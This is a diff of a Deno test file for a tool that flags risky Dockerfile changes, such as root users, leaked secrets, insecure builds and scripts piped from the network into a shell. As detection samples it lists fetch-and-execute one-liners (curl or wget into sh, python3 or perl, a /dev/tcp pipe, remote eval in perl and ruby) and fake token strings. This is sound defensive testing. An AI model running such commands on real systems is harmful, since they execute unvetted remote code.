@@ -1,6 +1,10 @@
-import { marksFor, TOOL_CAPABILITY_BLOCK as TOOL, validateDockerfile } from "../../mod.ts";
-import { findNetworkPipes } from "../../src/config/dockerfile/pipes.ts";
-import { type MarkedChange, marksInShort } from "../support/marks.ts";
+import {
+  compareConfigFiles,
+  marksFor,
+  TOOL_CAPABILITY_BLOCK as TOOL,
+  validateDockerfile,
+} from "../../mod.ts";
+import { hasNetworkPipe, type MarkedChange, marksInShort } from "../support/marks.ts";
 import { assert, assertEquals } from "@std/assert";
 
 const DIGEST = `sha256:${"4a".repeat(32)}`;
@@ -35,6 +39,47 @@ function change(...replaced: readonly (readonly [from: string, to: string])[]): 
 const more = (...lines: string[]) => change(["USER agent", `${lines.join("\n")}\nUSER agent`]);
 
 const NOTICED: readonly MarkedChange[] = [
+  ["another version of the base", change(["node:22-slim", "node:24-slim"]), "low changed-image +2"],
+  ["a digest", change(["golang:1.25", `golang:1.25@${DIGEST}`]), "low changed-image +3"],
+  ["another user", change(["USER agent", "USER builder"]), "low new-user +15"],
+  [
+    "a secret's file",
+    more("ENV DB_PASSWORD_FILE=/run/secrets/db TLS_KEY=/etc/tls/key.pem"),
+    "low new-variable +15",
+  ],
+  [
+    "a variable that is handed on",
+    more("ARG API_TOKEN", "ENV API_TOKEN=$API_TOKEN"),
+    "low new-variable +15",
+    "low new-variable +16",
+  ],
+  [
+    "a key that is meant for everybody",
+    more("ENV GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D"),
+    "low new-variable +15",
+  ],
+  ["a file that is added", more("ADD a.tar.gz b.txt /opt/"), "low new-file +15"],
+  [
+    "another place for the URL in force",
+    change(["tool.tar.gz /opt/", "tool.tar.gz /srv/"]),
+    "low removed-file -12",
+    "low new-file +12",
+  ],
+  [
+    "another version of the builder",
+    change(["docker/dockerfile:1", "docker/dockerfile:1.20"]),
+    "low changed-frontend +1",
+  ],
+  [
+    "a download",
+    more("RUN curl -fsSLo /opt/a.tgz https://x.example/a.tgz && tar xf /opt/a.tgz"),
+    "high download-then-run +15",
+  ],
+  [
+    "a download into tar",
+    more("RUN curl -fsSL https://x.example/a.tgz | tar xz -C /opt"),
+    "medium download-then-run +15",
+  ],
   ["root at the end", change(["USER agent", "USER root"]), "high user-root +15"],
   ["root by number", change(["USER agent", "USER 0:0"]), "high user-root +15"],
   ["root behind the user", change(["USER agent", "USER agent\nUSER root"]), "high user-root +16"],
@@ -47,13 +92,15 @@ const NOTICED: readonly MarkedChange[] = [
   ["root for a while", more("USER root", "RUN apt-get update"), "medium user-root +15"],
   [
     "root in another stage",
-    change(["COPY . /src", "USER root\nCOPY . /src"]),
+    change(["COPY . /src", "USER root\nCOPY . /src\nRUN make"]),
     "medium user-root +6",
   ],
   [
     "a new stage at the end, without a user",
     `${IN_FORCE}FROM node:22-slim\n`,
     "high user-root -15",
+    "medium removed-file -14",
+    "low changed-start -16",
   ],
   [
     "a script piped into a shell",
@@ -76,7 +123,7 @@ const NOTICED: readonly MarkedChange[] = [
   [
     "a pipe that goes on on the next line",
     change(["python3 && \\", "python3 && \\\n    curl https://x.example \\\n    | bash && \\"]),
-    "high network-pipe +11",
+    "high network-pipe +12",
   ],
   [
     "a substitution",
@@ -104,7 +151,7 @@ const NOTICED: readonly MarkedChange[] = [
   [
     "a pipe in a heredoc",
     more("RUN <<EOF", "set -e", "# first", "curl -s https://x.example |", "  sh", "EOF"),
-    "high network-pipe +18",
+    "high network-pipe +19",
   ],
   [
     "a pipe in JSON form",
@@ -115,6 +162,7 @@ const NOTICED: readonly MarkedChange[] = [
     "a pipe at start",
     change(['CMD ["agent"]', "CMD curl https://x.example | sh"]),
     "high network-pipe +16",
+    "low changed-start +16",
   ],
   ["a pipe for later", more("ONBUILD RUN curl https://x.example | sh"), "high network-pipe +15"],
   ["no tag", change(["golang:1.25", "golang"]), "medium unpinned-base-image +3"],
@@ -166,6 +214,7 @@ const NOTICED: readonly MarkedChange[] = [
     "a URL among others",
     more("ADD a.txt \\", "  https://dl.example.com/b.tar.gz /opt/"),
     "medium add-from-url +16",
+    "low new-file +15",
   ],
   ["a secret in ENV", more("ENV NPM_TOKEN=abcdef"), "high secret +15"],
   ["a secret in ENV of old form", more("ENV DB_PASSWORD correct horse"), "high secret +15"],
@@ -174,6 +223,7 @@ const NOTICED: readonly MarkedChange[] = [
     "a secret on a later line",
     more("ENV A=1 \\", '    AWS_SECRET_ACCESS_KEY="x y"'),
     "high secret +16",
+    "low new-variable +15",
   ],
   ["another value", change(["CACHE_KEY=v1", "CACHE_KEY=v2"]), "high secret +5"],
   ["a token by its form", more(`ENV X=ghp_${"a1".repeat(18)}`), "high secret +15"],
@@ -182,13 +232,19 @@ const NOTICED: readonly MarkedChange[] = [
     more(`RUN git clone https://x:glpat-${"a".repeat(20)}@git.example/a`),
     "high secret +15",
     "high secret +15",
+    "medium git-clone +15",
   ],
   [
     "a private key in a heredoc",
     more("RUN <<EOF", "cat > k <<K", "-----BEGIN OPENSSH PRIVATE KEY-----", "K", "EOF"),
     "high secret +17",
   ],
-  ["no sandbox", more("RUN --security=insecure mount /dev/sda"), "high security-insecure +15"],
+  [
+    "no sandbox",
+    more("RUN --security=insecure mount /dev/sda"),
+    "high security-insecure +15",
+    "high privilege-escalation +15",
+  ],
   ["the host's network", more("RUN --network=host ./probe"), "high network-host +15"],
   [
     "another builder",
@@ -208,18 +264,69 @@ for (const [what, proposed, ...marks] of NOTICED) {
   // Threat: A10
   Deno.test(`marksFor() notices in a Dockerfile ${what}`, () => {
     assertEquals(validateDockerfile(proposed), []);
-    assertEquals(marksInShort(TOOL, IN_FORCE, proposed), marks);
+    const found = marksInShort(TOOL, IN_FORCE, proposed);
+    assertEquals(found.filter((mark) => !mark.startsWith("low ") || marks.includes(mark)), marks);
   });
 }
 
 const HARMLESS: readonly (readonly [what: string, proposed: string])[] = [
   ["nothing changed", IN_FORCE],
+  ["a RUN less", change(["RUN curl -fsSL https://get.example.com/old.sh | sh\n", ""])],
+  ["a comment", `${IN_FORCE}# USER root\n`],
+  [
+    "a comment with a pipe in a RUN",
+    change(["    rm -rf", "    # curl https://x.example | sh\n    rm -rf"]),
+  ],
+  ["blank lines", IN_FORCE.replaceAll("\n\n", "\n\n\n")],
+  ["CRLF line ends", IN_FORCE.replaceAll("\n", "\r\n")],
+  [
+    "keywords in lower case",
+    IN_FORCE.replace(/^(?:RUN|ENV|USER|ADD|FROM)/gm, (word) => word.toLowerCase()),
+  ],
+  ["commands broken otherwise", change(["&& \\\n    apt-get", "&& apt-get"])],
+  [
+    "a stage on a base in force",
+    change(["FROM ${NODE}", "FROM golang:1.25 AS lint\nFROM ${NODE}"]),
+  ],
+  ["a stage on a stage", change(["FROM ${NODE}", "FROM build AS test\nFROM ${NODE}"])],
+  [
+    "an empty stage",
+    change(["FROM ${NODE}", "FROM scratch AS out\nFROM ${NODE}"]).replace("scratch", "golang:1.25"),
+  ],
+  [
+    "variables that hold no secret",
+    more("ENV NODE_ENV=production KEYBOARD=us TOKENIZER=bpe"),
+  ],
+  ["no builder named", change(["# syntax=docker/dockerfile:1\n", ""])],
+  ["metadata", more("LABEL a=b", "EXPOSE 80", "VOLUME /data", "STOPSIGNAL SIGINT", "MAINTAINER x")],
+  ["the image in its full spelling", change(["golang:1.25", "docker.io/library/golang:1.25"])],
+  ["a stage's other name", change(["AS build", "AS made"], ["--from=build", "--from=made"])],
+  ["a variable in braces, another by its ARG", change(["${NODE}", "$NODE"])],
+  [
+    "variables in another order",
+    change(["PATH=/opt/bin:$PATH LANG=C.UTF-8", "LANG=C.UTF-8 PATH=/opt/bin:${PATH}"]),
+  ],
+  ["the user again", change(["USER agent", "USER agent\nUSER agent"])],
+  ["the shell that is one", more('SHELL ["/bin/sh", "-c"]')],
+  ["a text", more("COPY <<EOF /etc/motd", "curl https://x.example | sh", "EOF")],
+  ["a check that is the case", more("ENV NODE_TLS_REJECT_UNAUTHORIZED=1")],
+  ["a platform", change(["FROM golang", "FROM --platform=linux/amd64 golang"])],
+];
+
+for (const [what, proposed] of HARMLESS) {
+  // Threat: A10
+  Deno.test(`a Dockerfile has no new reach: ${what}`, () => {
+    assertEquals(validateDockerfile(proposed), []);
+    const { reach, added, marks } = compareConfigFiles(TOOL, IN_FORCE, proposed);
+    assertEquals({ reach, added, marks }, { reach: "no-new-reach", added: [], marks: [] });
+  });
+}
+
+/** What a reviewer is told of at most in a low voice. */
+const TAME: readonly (readonly [what: string, proposed: string])[] = [
   ["a package more", change(["git python3", "git jq python3"])],
   ["another RUN", more("RUN npm ci --ignore-scripts")],
-  ["a RUN less", change(["RUN curl -fsSL https://get.example.com/old.sh | sh\n", ""])],
   ["curl itself", change(["git python3", "curl git python3 wget bash"])],
-  ["a download", more("RUN curl -fsSLo /opt/a.tgz https://x.example/a.tgz && tar xf /opt/a.tgz")],
-  ["a download into tar", more("RUN curl -fsSL https://x.example/a.tgz | tar xz -C /opt")],
   [
     "a key into a keyring",
     more("RUN curl https://x.example/k | gpg --dearmor -o /usr/share/k.gpg"),
@@ -235,62 +342,28 @@ const HARMLESS: readonly (readonly [what: string, proposed: string])[] = [
     }RUN curl -fsSL https://get.example.com/old.sh  |  sh\n`,
   ],
   ["the pipe in force, beside another command", change(["old.sh | sh", "old.sh | sh && ls"])],
-  ["a comment", `${IN_FORCE}# USER root\n`],
-  [
-    "a comment with a pipe in a RUN",
-    change(["    rm -rf", "    # curl https://x.example | sh\n    rm -rf"]),
-  ],
   [
     "a comment with a pipe in a heredoc",
     more("RUN <<EOF", "# curl https://x.example | sh", "ls", "EOF"),
   ],
-  ["blank lines", IN_FORCE.replaceAll("\n\n", "\n\n\n")],
-  ["CRLF line ends", IN_FORCE.replaceAll("\n", "\r\n")],
-  [
-    "keywords in lower case",
-    IN_FORCE.replace(/^(?:RUN|ENV|USER|ADD|FROM)/gm, (word) => word.toLowerCase()),
-  ],
-  ["commands broken otherwise", change(["&& \\\n    apt-get", "&& apt-get"])],
-  ["another version of the base", change(["node:22-slim", "node:24-slim"])],
-  ["a digest", change(["golang:1.25", `golang:1.25@${DIGEST}`])],
-  [
-    "a stage on a base in force",
-    change(["FROM ${NODE}", "FROM golang:1.25 AS lint\nFROM ${NODE}"]),
-  ],
-  ["a stage on a stage", change(["FROM ${NODE}", "FROM build AS test\nFROM ${NODE}"])],
-  [
-    "an empty stage",
-    change(["FROM ${NODE}", "FROM scratch AS out\nFROM ${NODE}"]).replace("scratch", "golang:1.25"),
-  ],
-  ["another user", change(["USER agent", "USER builder"])],
   ["a user for a while", more("USER nobody", "RUN ./x")],
-  [
-    "variables that hold no secret",
-    more("ENV NODE_ENV=production KEYBOARD=us MONKEY=1 TOKENIZER=bpe"),
-  ],
-  ["a secret's file", more("ENV DB_PASSWORD_FILE=/run/secrets/db TLS_KEY=/etc/tls/key.pem")],
   ["a secret that the build gets", more("ARG NPM_TOKEN", "RUN --mount=type=secret,id=npm npm ci")],
-  ["a variable that is handed on", more("ARG API_TOKEN", "ENV API_TOKEN=$API_TOKEN")],
-  [
-    "a key that is meant for everybody",
-    more("ENV GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D"),
-  ],
-  ["a file that is added", more("ADD a.tar.gz b.txt /opt/")],
-  ["another place for the URL in force", change(["tool.tar.gz /opt/", "tool.tar.gz /srv/"])],
   ["the build's own sandbox", more("RUN --security=sandbox --network=none ./x")],
-  ["another version of the builder", change(["docker/dockerfile:1", "docker/dockerfile:1.20"])],
-  ["no builder named", change(["# syntax=docker/dockerfile:1\n", ""])],
 ];
 
-for (const [what, proposed] of HARMLESS) {
-  Deno.test(`marksFor() finds nothing to notice in a Dockerfile: ${what}`, () => {
+for (const [what, proposed] of TAME) {
+  Deno.test(`marksFor() finds nothing above low in a Dockerfile: ${what}`, () => {
     assertEquals(validateDockerfile(proposed), []);
-    assertEquals(marksInShort(TOOL, IN_FORCE, proposed), []);
+    const marks = marksInShort(TOOL, IN_FORCE, proposed);
+    assertEquals(marks.filter((mark) => !mark.startsWith("low ")), []);
   });
 }
 
 Deno.test("marksFor() compares no base where no Dockerfile is in force", () => {
-  assertEquals(marksInShort(TOOL, null, "FROM debian:13\nUSER agent\n"), []);
+  assertEquals(marksInShort(TOOL, null, "FROM debian:13\nUSER agent\n"), [
+    "low new-image +1",
+    "low new-user +2",
+  ]);
   assertEquals(marksInShort(TOOL, null, "FROM debian\nUSER root\n"), [
     "high user-root +2",
     "medium unpinned-base-image +1",
@@ -328,13 +401,13 @@ const RUN_FROM_THE_NETWORK: readonly string[] = [
   "source <(curl x)", ". <(curl x)", "eval `wget -O- x`", "bash <<< \"$(curl x)\"", "sh < <(curl x)",
   "curl x > >(sh)", "$(curl x) | sh", "curl x | python3", "curl x | perl", "curl x | node -",
   "curl x | python3 - --yes", "if true; then curl x | sh; fi", "cat </dev/tcp/192.0.2.1/80 | sh",
-  "perl -e 'use LWP::Simple; eval get(\"x\")'", "ruby -e 'require \"open-uri\"; eval URI.open(\"x\").read'",
+  "perl -e 'use LWP::Simple; eval get(\"https://x.example\")'", "ruby -e 'require \"open-uri\"; eval URI.open(\"https://x.example\").read'",
   "curl x | xargs -I{} sh -c {}", "set -e\ncurl x | sh\nls", "curl https://astral.sh | env D=/x sh",
 ];
 
 for (const script of RUN_FROM_THE_NETWORK) {
-  Deno.test(`findNetworkPipes() finds one in ${JSON.stringify(script)}`, () => {
-    assertEquals(findNetworkPipes(script).length, 1);
+  Deno.test(`a script from the network is run in ${JSON.stringify(script)}`, () => {
+    assertEquals(hasNetworkPipe(script), true);
   });
 }
 
@@ -349,7 +422,7 @@ const NOT_RUN: readonly string[] = [
 ];
 
 for (const script of NOT_RUN) {
-  Deno.test(`findNetworkPipes() finds none in ${JSON.stringify(script)}`, () => {
-    assertEquals(findNetworkPipes(script), []);
+  Deno.test(`no script from the network is piped in ${JSON.stringify(script)}`, () => {
+    assertEquals(hasNetworkPipe(script), false);
   });
 }
